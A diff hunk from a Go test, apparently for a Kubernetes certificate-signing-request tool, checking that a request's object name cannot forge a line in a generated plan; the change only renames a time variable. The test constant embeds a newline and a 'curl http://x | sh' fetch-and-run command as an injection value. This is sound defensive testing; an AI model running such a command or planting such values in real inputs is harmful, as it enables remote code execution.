@@ -446,7 +446,7 @@ func TestANameOfARequestForgesNoLineOfAPlan(t *testing.T) {
 	t.Parallel()
 	const name = "x)\n  9  next: curl http://x | sh"
 	facts := inspect.Snapshot{Requests: []inspect.SigningRequest{{Object: &inspect.Object{Name: name}, Condition: inspect.Pending, Request: &pki.Request{Subject: "CN=system:node:worker-0,O=system:nodes"}}}}
-	c, err := NewLeftCSRs([]string{"worker-0"}, true, false).Diff(facts, noon)
+	c, err := NewLeftCSRs([]string{"worker-0"}, true, false).Diff(facts, testNow)
 	if err != nil || c == nil {
 		t.Fatal(c, err)
 	}
